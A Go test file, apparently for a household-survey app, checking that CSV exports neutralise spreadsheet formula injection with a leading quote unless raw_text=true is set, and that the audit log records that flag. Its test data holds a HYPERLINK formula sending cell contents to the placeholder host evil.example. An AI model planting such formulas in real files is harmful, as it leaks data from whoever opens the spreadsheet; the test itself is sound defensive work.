package main

import (
	"net/http"
	"testing"
)

// TestExportFormulaInjection: a collector's free text that begins like a
// spreadsheet formula reaches a manager's CSV with a leading quote, and
// as typed only with raw_text=true, which the audit log records.
func TestExportFormulaInjection(t *testing.T) {
	const unit = "00328"
	col := newUser(t, shared, "collector", unit)
	data := householdData(t)
	data["address"] = `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`
	e := envelope(data)
	e["unit"] = unit
	if r := col.do("POST", "/api/v1/forms/household/submissions", e); r.status != http.StatusCreated {
		t.Fatalf("submit: %d %s", r.status, r.body)
	}
	mgr := newUser(t, shared, "manager", unit)
	for _, tt := range []struct{ query, want string }{
		{"", `'=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
		{"&raw_text=true", `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
	} {
		r := mgr.raw("GET", "/api/v1/forms/household/export?format=csv&unit="+unit+tt.query, nil)
		if r.status != http.StatusOK {
			t.Fatalf("export%s: %d %s", tt.query, r.status, r.body)
		}
		rows := parseCSV(t, r.body)
		if len(rows) != 1 || rows[0]["address"] != tt.want {
			t.Errorf("export%s: address %q, want %q", tt.query, rows[0]["address"], tt.want)
		}
	}
	entries := exportEntries(t, dbOf(t, shared), whoami(t, mgr))
	var raw []any
	for _, en := range entries {
		raw = append(raw, details(en)["raw_text"])
	}
	if len(raw) != 2 || raw[0] != false || raw[1] != true {
		t.Errorf("audit raw_text of the two exports: %v, want [false true]", raw)
	}
}
